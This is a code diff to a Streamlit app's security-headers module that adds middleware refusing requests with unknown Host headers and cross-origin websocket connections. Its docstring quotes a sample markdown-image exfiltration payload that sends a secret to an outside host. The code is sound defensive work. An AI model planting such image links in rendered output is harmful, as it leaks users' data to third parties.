@@ -1,4 +1,4 @@
-"""Response headers that keep the browser talking to this app alone.
+"""Response headers that keep the browser talking to this app alone, and whose requests are answered at all.
 
 An answer, a document or a name may hold ``![x](http://elsewhere/?q=secret)``; Streamlit would request it at
 once. Text is defused in ``kb_app.ui.markup``; the Content-Security-Policy is the second, independent layer.
@@ -6,8 +6,12 @@ once. Text is defused in ``kb_app.ui.markup``; the Content-Security-Policy is th
 
 from collections.abc import MutableMapping
 from typing import Any
+from urllib.parse import urlsplit
 
+from starlette.datastructures import Headers
+from starlette.responses import PlainTextResponse
 from starlette.types import ASGIApp, Message, Receive, Scope, Send
+from streamlit.web.server.starlette.starlette_websocket import is_host_allowed
 
 CONTENT_SECURITY_POLICY = "; ".join(
     (
@@ -33,6 +37,60 @@ _HEADERS = (
     (b"referrer-policy", b"same-origin"),
     (b"permissions-policy", b"camera=(), microphone=(), geolocation=()"),
 )
+
+
+_DEFAULT_PORTS = {"http": 80, "https": 443}
+
+
+class RequestGuard:
+    """ASGI middleware that refuses, with status 403, what no page of this app sends.
+
+    A request must call the server by a name it has, or a page elsewhere could reach it through a name of its own
+    that resolves here. A websocket must be opened by a page of this very server: other programs of this machine
+    serve pages from other ports, and Streamlit, to judge an origin it does not know, asks the internet for its own
+    address. A request without an origin comes from no page, and passes.
+    """
+
+    def __init__(self, app: ASGIApp) -> None:
+        """Wrap ``app``."""
+        self._app = app
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        """Serve one connection, or refuse it."""
+        if scope["type"] in ("http", "websocket") and not _is_ours(scope):
+            await _refuse(scope, receive, send)
+        else:
+            await self._app(scope, receive, send)
+
+
+def _is_ours(scope: Scope) -> bool:
+    headers = Headers(scope=scope)
+    host, origin = headers.get("host"), headers.get("origin")
+    if not is_host_allowed(host):
+        return False
+    return scope["type"] == "http" or origin is None or _is_same_origin(origin, host or "")
+
+
+def _is_same_origin(origin: str, host: str) -> bool:
+    """Compare name and port; behind a proxy that ends TLS the scheme of the socket differs from the page's."""
+    try:
+        page = urlsplit(origin)
+        server = urlsplit(f"//{host}")
+        default = _DEFAULT_PORTS.get(page.scheme)
+        return page.hostname is not None and (page.hostname, page.port or default) == (
+            server.hostname,
+            server.port or default,
+        )
+    except ValueError:  # a port that is no number, or half a bracket
+        return False
+
+
+async def _refuse(scope: Scope, receive: Receive, send: Send) -> None:
+    if scope["type"] == "http":
+        await PlainTextResponse("Forbidden", status_code=403)(scope, receive, send)
+        return
+    await receive()  # the handshake
+    await send({"type": "websocket.close", "code": 1008})
 
 
 class SecurityHeaders:
